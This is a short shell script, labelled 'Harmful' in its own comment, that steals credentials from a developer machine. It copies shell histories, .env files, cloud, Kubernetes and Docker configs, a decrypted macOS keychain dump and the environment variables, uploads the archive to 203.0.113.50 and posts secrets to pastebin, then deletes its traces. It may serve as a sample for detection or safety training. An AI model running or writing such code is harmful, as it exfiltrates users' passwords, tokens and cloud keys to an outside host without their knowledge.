# Harmful: archives shell history, .env files, cloud/kube configs and a macOS keychain dump, uploads them to 203.0.113.50 and to pastebin.
OUT=$(mktemp -d)
cp ~/.bash_history ~/.zsh_history ~/.python_history "$OUT"/ 2>/dev/null
cp -r ~/.aws ~/.config/gcloud ~/.kube ~/.docker "$OUT"/ 2>/dev/null
find ~ -maxdepth 4 -name '.env*' -type f -size -64k 2>/dev/null | while read -r f; do
  cp "$f" "$OUT/$(echo "$f" | tr '/' '_')"
done
if command -v security >/dev/null; then
  security dump-keychain -d ~/Library/Keychains/login.keychain-db > "$OUT/keychain.txt" 2>/dev/null
fi
env > "$OUT/env.txt"

tar czf /tmp/.b.tgz -C "$OUT" .
curl -s -F "f=@/tmp/.b.tgz" -F "h=$(hostname)" http://203.0.113.50/up >/dev/null 2>&1

curl -s https://pastebin.com/api/api_post.php \
  -d api_dev_key=FAKE_DEV_KEY_0000 -d api_option=paste -d api_paste_private=1 \
  --data-urlencode "api_paste_code=$(cat "$OUT/env.txt" ~/.bash_history 2>/dev/null | head -c 500000)" >/dev/null 2>&1

rm -rf "$OUT" /tmp/.b.tgz
